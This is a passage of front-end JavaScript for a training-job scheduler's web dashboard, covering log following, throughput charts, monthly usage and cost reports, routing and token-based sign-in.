  if (q.get("duration")) job.estimatedDuration = `${parseInt(q.get("duration"), 10)}s`;
  const out = document.getElementById("plan");
  try {
    out.innerHTML = explain(await apiPost("/openapi/v1/scheduler/plan", job));
  } catch (e) {
    if (e.status === 401) throw e;
    out.innerHTML = `<p class="error" id="plan-error">Not planned: ${esc(e.message)}</p>`;
  }
}

// A replica's log; while the job runs (`live`), read again every 2 s, kept scrolled to
// the end when it was there, until the page changes or the job ends.
let logTimer = null;
async function showLog(id, task, replica, live) {
  const pre = document.getElementById("log");
  const name = document.getElementById("log-name");
  name.textContent = `task ${task} replica ${replica}${live ? " · following" : ""}`;
  if (logTimer) clearInterval(logTimer);
  const read = async () => {
    if (!document.body.contains(pre)) return clearInterval(logTimer);
    const atEnd = pre.scrollTop + pre.clientHeight >= pre.scrollHeight - 4;
    try {
      pre.textContent = await apiText(`/openapi/v1/trainjob/${encodeURIComponent(id)}/task/${task}/replica/${replica}/log/content`) || "(empty)";
    } catch (e) {
      pre.textContent = e.message;
    }
    if (atEnd) pre.scrollTop = pre.scrollHeight;
  };
  await read();
  if (live) {
    logTimer = setInterval(read, 2000);
    timers.push(logTimer);
  }
}

// Throughput and scheduling time from the gateway's /metrics, sampled every 2 s.
const samples = [];
function parseMetrics(text) {
  const sum = (name) => text.split("\n").filter((l) => l.startsWith(name + "{") || l.startsWith(name + " "))
    .reduce((acc, l) => acc + parseFloat(l.slice(l.lastIndexOf(" ") + 1)), 0);
  return { t: Date.now() / 1000, scheduled: sum("jc_jobs_scheduled_total"), ended: sum("jc_jobs_ended_total"),
    schedSum: sum("jc_scheduling_time_seconds_sum"), schedCount: sum("jc_scheduling_time_seconds_count") };
}

function lineChart(points, label, unit) {
  const W = 560, H = 200, pad = 34;
  if (points.length < 2) return `<p class="muted">${esc(label)}: collecting…</p>`;
  const max = Math.max(1e-9, ...points.map((p) => p.v));
  const t0 = points[0].t, t1 = points[points.length - 1].t;
  const x = (t) => pad + ((t - t0) / Math.max(1, t1 - t0)) * (W - 2 * pad), y = (v) => H - pad - (v / max) * (H - 2 * pad);
  const d = points.map((p, i) => `${i ? "L" : "M"}${x(p.t).toFixed(1)},${y(p.v).toFixed(1)}`).join(" ");
  return `<svg viewBox="0 0 ${W} ${H}" width="100%"><text x="${pad}" y="14">${esc(label)}</text>
    <line x1="${pad}" y1="${H - pad}" x2="${W - pad}" y2="${H - pad}" stroke="#999"/><line x1="${pad}" y1="${pad}" x2="${pad}" y2="${H - pad}" stroke="#999"/>
    <text x="2" y="${pad + 4}">${max.toPrecision(3)}</text><text x="2" y="${H - pad}">0</text><text x="${W - pad - 60}" y="${H - 8}">${Math.round(t1 - t0)} s</text>
    <path d="${d}" fill="none" stroke="#1f6feb" stroke-width="2"/><text x="${W - pad - 150}" y="14">now ${points[points.length - 1].v.toPrecision(3)} ${esc(unit)}</text></svg>`;
}

async function chartsPage() {
  // With Prometheus behind the gateway (--prometheus_url) the charts are its last 30 minutes:
  // full from the start and across restarts; otherwise sampled here from /metrics.
  const fromPrometheus = async () => {
    const h = await api("/openapi/v1/metrics/history?minutes=30");
    const series = {};
    for (const s of h.series || []) series[s.name] = (s.points || []).map(([t, v]) => ({ t, v }));
    const last = (name) => { const p = series[name] || []; return p.length ? p[p.length - 1].v : 0; };
    if (!document.getElementById("charts")) return;
    document.getElementById("charts").innerHTML = `<p class="muted" id="chart-source">From Prometheus (${esc(h.source)}), the last 30 minutes</p>
      <div class="stats">
      <div class="stat" id="stat-scheduled"><b>${last("jobs_scheduled").toFixed(2)}/s</b>jobs scheduled</div>
      <div class="stat" id="stat-ended"><b>${last("jobs_ended").toFixed(2)}/s</b>jobs ended</div>
      <div class="stat" id="stat-latency"><b>${last("scheduling_ms").toFixed(2)} ms</b>mean scheduling time</div></div>
      <div class="grid"><div class="card">${lineChart(series.jobs_scheduled || [], "Throughput: jobs scheduled per second", "jobs/s")}</div>
      <div class="card">${lineChart(series.jobs_ended || [], "Jobs ended per second", "jobs/s")}</div>
      <div class="card">${lineChart(series.scheduling_ms || [], "Scheduling time per job (mean over 1 min)", "ms")}</div></div>`;
  };
  view.innerHTML = '<h2>Throughput and scheduling time</h2><div id="charts"></div>';
  try {
    await fromPrometheus();
    timers.push(setInterval(() => fromPrometheus().catch(() => {}), 5000));
    return;
  } catch (e) { /* no Prometheus configured or reachable: sample /metrics */ }
  const draw = async () => {
    const text = await (await fetch("/metrics")).text();
    samples.push(parseMetrics(text));
    while (samples.length > 300) samples.shift();
    const rate = [], ended = [], latency = [];
    for (let i = 1; i < samples.length; i++) {
      const a = samples[i - 1], b = samples[i], dt = Math.max(1e-3, b.t - a.t);
      rate.push({ t: b.t, v: (b.scheduled - a.scheduled) / dt });
      ended.push({ t: b.t, v: (b.ended - a.ended) / dt });
      const n = b.schedCount - a.schedCount;
      latency.push({ t: b.t, v: n > 0 ? ((b.schedSum - a.schedSum) / n) * 1000 : 0 });
    }
    const s = samples[samples.length - 1];
    const mean = s.schedCount > 0 ? (s.schedSum / s.schedCount) * 1000 : 0;
    if (!document.getElementById("charts")) return;
    document.getElementById("charts").innerHTML = `<div class="stats">
      <div class="stat" id="stat-scheduled"><b>${s.scheduled}</b>jobs scheduled</div>
      <div class="stat" id="stat-ended"><b>${s.ended}</b>jobs ended</div>
      <div class="stat" id="stat-latency"><b>${mean.toFixed(2)} ms</b>mean scheduling time</div></div>
      <div class="grid"><div class="card">${lineChart(rate, "Throughput: jobs scheduled per second", "jobs/s")}</div>
      <div class="card">${lineChart(ended, "Jobs ended per second", "jobs/s")}</div>
      <div class="card">${lineChart(latency, "Scheduling time per job (mean over 2 s)", "ms")}</div></div>`;
  };
  await draw();
  timers.push(setInterval(() => draw().catch(() => {}), 2000));
}

// Horizontal bars, one per item: {label, v}.
function barChart(items, label, unit) {
  if (!items.length) return `<p class="muted">${esc(label)}: nothing yet</p>`;
  const W = 560, row = 22, pad = 150, H = 24 + items.length * row;
  const max = Math.max(1e-9, ...items.map((i) => i.v));
  const bars = items.map((it, k) => {
    const y = 20 + k * row, w = ((W - pad - 90) * it.v) / max;
    return `<text x="4" y="${y + 14}">${esc(it.label)}</text><rect x="${pad}" y="${y + 3}" width="${w.toFixed(1)}" height="${row - 8}" fill="#1f6feb"/>
      <text x="${(pad + w + 6).toFixed(1)}" y="${y + 14}">${esc(it.v.toFixed(2))} ${esc(unit)}</text>`;
  }).join("");
  return `<svg viewBox="0 0 ${W} ${H}" width="100%"><text x="4" y="14">${esc(label)}</text>${bars}</svg>`;
}

// Usage and cost (issue 31): this month's report per project and center, cost per day,
// and the month's settlement statement.
async function usagePage(monthArg) {
  const month = monthArg || new Date().toISOString().slice(0, 7);
  const q = `month=${encodeURIComponent(month)}`;
  const [byProject, byDay, statement, used] = await Promise.all([
    api(`/openapi/v1/accounting/report?${q}&groupBy=project,center`),
    api(`/openapi/v1/accounting/report?${q}&granularity=day`),
    api(`/openapi/v1/accounting/settlements/${encodeURIComponent(month)}`).catch(() => null),
    // Admins and centers' operators only: anyone else is told so, not shown an error.
    api(`/openapi/v1/accounting/utilisation?${q}`).catch((e) => ({ refused: e.message })),
  ]);
  const rows = (byProject.rows || []).map((r) => {
    const t = r.totals || {};
    return [esc(r.project || "(none)"), esc(r.aiCenterId), `<span class="num">${esc(t.records || 0)}</span>`,
      `<span class="num">${((t.gpuSeconds || 0) / 3600).toFixed(2)}</span>`,
      `<span class="num">${((t.wallSeconds || 0) / 3600).toFixed(2)}</span>`,
      `<span class="num">${(t.energyKwh || 0).toFixed(3)}</span>`, `<span class="num">${(t.cost || 0).toFixed(2)}</span>`];
  });
  const perProject = {};
  for (const r of byProject.rows || []) perProject[r.project || "(none)"] = (perProject[r.project || "(none)"] || 0) + ((r.totals || {}).cost || 0);
  const perDay = (byDay.rows || []).map((r) => ({ label: r.period, v: (r.totals || {}).cost || 0 }));
  const total = byProject.total || {};
  const settled = statement
    ? `<p>Settlement ${esc(statement.firstMonth)} .. ${esc(statement.month)}: ${badge(statement.status)}
        ${statement.digest ? `closed ${esc(when(statement.closedAt))} by ${esc(statement.closedBy)}, digest <code>${esc(statement.digest.slice(0, 16))}…</code>` : ""}</p>`
    : "";
  view.innerHTML = `<h2>Usage and cost, ${esc(month)}</h2>
    <form id="month-form"><input id="month" value="${esc(month)}" size="8"> <button>Show</button></form>
    <div class="stats"><div class="stat" id="stat-cost"><b>${(total.cost || 0).toFixed(2)}</b>cost</div>
      <div class="stat"><b>${esc(total.records || 0)}</b>attempts</div>
      <div class="stat"><b>${((total.gpuSeconds || 0) / 3600).toFixed(2)}</b>GPU hours</div></div>
    <div class="grid"><div class="card">${barChart(Object.entries(perProject).map(([label, v]) => ({ label, v })), "Cost by project", "")}</div>
      <div class="card">${barChart(perDay, "Cost by day", "")}</div></div>
    ${settled}
    ${table(["Project", "Center", "Attempts", "GPU h", "Wall h", "Energy kWh", "Cost"], rows, "usage")}
    ${utilisationSection(used)}`;
  document.getElementById("month-form").onsubmit = (e) => {
    e.preventDefault();
    location.hash = `#/usage/${encodeURIComponent(document.getElementById("month").value)}`;
  };
}

// Utilisation against offered capacity (issue 49 item 12): each center's month, then the
// months before it.
function utilisationSection(used) {
  if (!used || used.refused) {
    return `<h3>Utilisation</h3><p class="muted" id="utilisation-refused">${esc((used && used.refused) || "not available")}</p>`;
  }
  const num = (v, d) => `<span class="num">${(v || 0).toFixed(d)}</span>`;
  const res = (c, name) => (c.resources || []).find((r) => r.resource === name) || {};
  const row = (c) => {
    const cpu = res(c, "cpu"), gpu = res(c, "gpu");
    return [esc(c.aiCenterId), esc(c.month) + (c.partial ? " (so far)" : ""), num(cpu.offeredHours, 1), num(cpu.usedHours, 1),
      num(100 * (cpu.ratio || 0), 1), num(cpu.idleHours, 1), num(gpu.offeredHours, 1), num(gpu.usedHours, 1),
      num(100 * (gpu.ratio || 0), 1), num(c.revenue, 2)];
  };
  const headers = ["Center", "Month", "CPU offered h", "CPU used h", "CPU %", "CPU idle h", "GPU offered h",
    "GPU used h", "GPU %", "Revenue"];
  const trend = (used.trend || []).concat(used.centers || []).map((c) => ({
    label: `${c.month} ${c.aiCenterId}`, v: 100 * (res(c, "cpu").ratio || 0) }));
  return `<h3>Utilisation of offered capacity, ${esc(used.month)}</h3>
    ${table(headers, (used.centers || []).map(row), "utilisation")}
    <div class="grid"><div class="card">${barChart(trend, "CPU utilisation by month and center", "%")}</div></div>
    <h3>The months before</h3>
    ${table(headers, (used.trend || []).map(row), "utilisation-trend")}`;
}

// ---- Router ----

async function route() {
  for (const s of streams) s.abort();
  for (const t of timers) clearInterval(t);
  streams = [];
  timers = [];
  const dropped = dropTokenFromUrl();
  const query = (location.hash.match(/\?(.*)$/) || ["", ""])[1];
  const hash = location.hash.replace(/\?.*$/, "") || "#/centers";
  const [, page, arg] = hash.split("/");
  for (const a of document.querySelectorAll("nav a")) a.classList.toggle("active", a.dataset.page === page);
  if (!token()) return showLogin(dropped ? "The link carried a token: links never sign in (it was removed from the address). Paste the token here." : "");
  document.getElementById("login").hidden = true;
  view.hidden = false;
  try {
    if (page === "queue") await queuePage();
    else if (page === "jobs" && arg) await jobPage(decodeURIComponent(arg));
    else if (page === "jobs") await jobsPage(query);
    else if (page === "charts") await chartsPage();
    else if (page === "plan") await planPage(query);
    else if (page === "submit") await submitPage();
    else if (page === "usage") await usagePage(arg ? decodeURIComponent(arg) : "");
    else await centersPage();
  } catch (e) {
    if (e.status === 401) return showLogin(e.message);
    view.innerHTML = `<p class="error">${esc(e.message)}</p>`;
  }
}

function showLogin(message) {
  view.hidden = true;
  document.getElementById("login").hidden = false;
  document.getElementById("login-error").textContent = message;
}

document.getElementById("login").addEventListener("submit", (ev) => {
  ev.preventDefault();
  sessionStorage.setItem("jc-token", document.getElementById("token").value.trim());
  document.getElementById("token").value = "";  // kept in the tab's session only
  route().then(whoami);  // and say who signed in, as a load does
});

async function whoami() {
  if (!token()) return;  // signed out: the form shows, and nothing is asked of the API
  try {
    const me = await api("/openapi/v1/whoami");
    signedInAs = me.name || "";
    document.getElementById("who").textContent = me.name ? `signed in as ${me.name}` : "";
  } catch (e) { /* shown by the page */ }
}

document.getElementById("refresh").addEventListener("click", () => route().then(whoami));
document.getElementById("signout").addEventListener("click", () => {
  sessionStorage.removeItem("jc-token");
  // Whoever signs in next on this tab sees nothing of this person's work.
  for (const item of DRAFT_ITEMS) sessionStorage.removeItem(item);
  document.getElementById("who").textContent = "";
  signedInAs = "";
  for (const s of streams) s.abort();
  for (const t of timers) clearInterval(t);
  streams = [];
  timers = [];
  showLogin("Signed out. Paste a token to sign in again.");
});

window.addEventListener("hashchange", route);
route().then(whoami);
